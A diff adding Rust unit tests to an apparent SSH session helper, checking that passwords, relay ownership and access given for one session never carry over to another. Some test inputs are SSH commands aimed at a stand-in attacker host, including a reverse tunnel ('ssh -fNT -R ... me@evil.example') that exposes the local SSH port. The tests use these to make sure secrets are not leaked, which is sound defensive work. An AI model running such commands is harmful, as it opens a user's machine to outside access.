@@ -587,3 +587,87 @@ fn a_key_that_ssh_would_refuse_is_found_before_anything_is_sent() {
     }
     assert_eq!(play.refuses(), Reason::NotWritable("it is revoked".to_owned()));
 }
+
+#[test]
+fn what_was_given_for_one_way_goes_along_to_no_other() {
+    // A relay's password, typed for one relay.
+    let mut play = Play::new(RELAY);
+    play.answers = Err(NotSeen::RelayWantsLogin);
+    assert!(matches!(play.go().asks(), Question::RelayLogin { .. }));
+    play.say(Answer::RelayPassword(TypedSecret::from("for-home-only")));
+    for replaces in [false, true] {
+        play.talk.take_text(SecretString::from("ssh -fNT -R 7423:127.0.0.1:22 me@evil.example"), replaces);
+        assert!(play.talk.relay_password().is_none(), "replaced: {replaces}");
+    }
+    // A runtime's, pasted and typed.
+    for replaces in [false, true] {
+        let mut play = Play::new(A);
+        play.talk.take_text(SecretString::from("ssh -p 4444 root@evil.example"), replaces);
+        assert!(play.talk.password().is_none(), "pasted; replaced: {replaces}");
+        let mut play = Play::new(NO_PASSWORD);
+        play.say(Answer::Password(TypedSecret::from("for-this-only")));
+        play.talk.take_text(SecretString::from("ssh -p 4444 root@evil.example"), replaces);
+        assert!(play.talk.password().is_none(), "typed; replaced: {replaces}");
+        // Another user of the same machine is another one, too.
+        let mut play = Play::new(A);
+        play.talk.take_text(SecretString::from("ssh -p15873 ada@0.tcp.eu.ngrok.io"), replaces);
+        assert!(play.talk.password().is_none(), "another user; replaced: {replaces}");
+    }
+}
+
+#[test]
+fn a_relay_that_is_one_s_own_makes_no_other_one_so() {
+    let mut play = Play::new(RELAY);
+    assert!(matches!(play.asks(), Question::GoAhead(_)));
+    play.say(Answer::GoAhead { mine_alone: true });
+    play.answers = Ok(Seen { key: key(1), channel: true, channel_failed: None });
+    let Link::Relay(link) = play.done().change.session.link else { panic!("a relay") };
+    assert!(link.mine_alone);
+    play.talk.start_again(known("", &[]));
+    play.talk.take_text(SecretString::from("ssh -fNT -R 7423:127.0.0.1:22 me@shared.example"), false);
+    play.go();
+    let Link::Relay(link) = play.talk.session().unwrap().link else { panic!("a relay") };
+    assert!(!link.mine_alone, "nobody said so of this one");
+    play.talk.start_again(known("", &[]));
+    play.talk.take_text(SecretString::from(NO_PASSWORD), false);
+    assert!(matches!(play.asks(), Question::GoAhead(_)), "and no relay is wanted any more");
+}
+
+#[test]
+fn a_text_does_not_choose_which_session_it_leads_on() {
+    let two = format!(
+        "{COLAB}[session.trainer]\nlink = \"ngrok\"\nhost = \"2.tcp.ngrok.io\"\nport = 2000\nuser = \"root\"\n"
+    );
+    let text = format!(
+        "Host trainer\n  HostName 4.tcp.ngrok.io\n  Port 4444\n  User root\n256 {} root@x (ED25519)\n",
+        key(1).fingerprint()
+    );
+    let mut play = Play::of(known(&two, &[]), &text);
+    let Question::GoAhead(summary) = play.asks() else { panic!("it is asked") };
+    assert_eq!((summary.name.as_str(), summary.moves_from.is_some()), ("trainer", true));
+}
+
+#[test]
+fn leaving_one_session_s_runtime_leaves_no_other_s() {
+    let two = format!(
+        "{COLAB}[session.trainer]\nlink = \"ngrok\"\nhost = \"2.tcp.ngrok.io\"\nport = 2000\nuser = \"root\"\n"
+    );
+    let mut play = Play::of(known(&two, &[("colab", key(9)), ("trainer", key(8))]), NO_PASSWORD);
+    play.old = StillThere::Yes;
+    play.talk.rename("colab".parse().unwrap());
+    assert!(matches!(play.asks(), Question::StillAnswers { .. }));
+    play.say(Answer::Leave);
+    play.talk.rename("trainer".parse().unwrap());
+    assert!(matches!(play.asks(), Question::StillAnswers { .. }), "this one was not left");
+}
+
+#[test]
+fn access_that_was_found_for_one_user_counts_for_no_other() {
+    let mut play = Play::new(A);
+    play.go().say(Answer::Approve(key(1).fingerprint()));
+    assert_eq!(play.done().access, Some(Access::Works));
+    play.talk.take_text(SecretString::from("ssh -p15873 ada@0.tcp.eu.ngrok.io"), true);
+    play.access = Access::Missing;
+    play.go().say(Answer::Approve(key(1).fingerprint()));
+    assert!(matches!(play.asks(), Question::Login(_)), "it is tried anew");
+}
